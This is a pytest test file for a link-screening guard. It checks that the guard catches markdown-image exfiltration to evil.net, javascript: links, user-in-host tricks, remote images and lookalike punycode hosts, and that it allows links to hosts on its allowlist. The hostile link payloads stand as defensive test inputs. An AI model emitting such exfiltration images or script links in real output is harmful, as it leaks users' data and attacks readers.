from __future__ import annotations

import pytest

from ondol.core.errors import SettingsError
from ondol.infrastructure.guard.checks.links import LinksCheck, without_links
from ondol.infrastructure.guard.text import GuardText

CHECK = LinksCheck(("ok.com", "*.b.org"))


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("![x](https://evil.net/a?d=" + "QUJD" * 12 + ")", "links.exfiltration"),
        ("[a](https://ok.com@evil.net/)", "links.user_in_host"),
        ("[a](javascript:alert(1))", "links.scheme"),
        ("<img src=//evil.net/x>", "links.remote_image"),
        ("<https://ok.com.evil.net/>", "links.host"),
        ("[1]: https://evil.net/x", "links.host"),
        ("https://xn--80ak6aa92e.com/", "links.lookalike_host"),
        ("url(https://evil.net/a)", "links.remote_image"),
        ("[a](https:\\\\evil.net)", "links.host"),
    ],
)
def test_found(text: str, rule: str) -> None:
    assert [item.rule for item in CHECK.find(GuardText(text))] == [rule]


@pytest.mark.parametrize(
    "text", ["[a](https://ok.com/x)", "https://a.b.org/", "data: 3 rows", "see metadata:, file: and blob:", "말씀은 https://ok.com, 입니다"]
)
def test_allowed(text: str) -> None:
    assert CHECK.find(GuardText(text)) == []


@pytest.mark.parametrize("words", ["plain words and more. ", "한글 문장입니다. ", "a"])
def test_long_texts_without_links(words: str) -> None:
    # An automaton that told where a match of `](//` begins crashed on these.
    assert CHECK.find(GuardText(words * 1_000)) == []


def test_many_links_are_each_judged() -> None:
    text = "[a](https://ok.com/x) ![b](//evil.net/y)\n" * 50
    assert [item.rule for item in CHECK.find(GuardText(text))] == ["links.remote_image"] * 50


def test_changes_and_settings() -> None:
    assert without_links("a http://x b", [(2, 10)]) == "a (link removed) b"
    with pytest.raises(SettingsError):
        LinksCheck(("https://x/",))
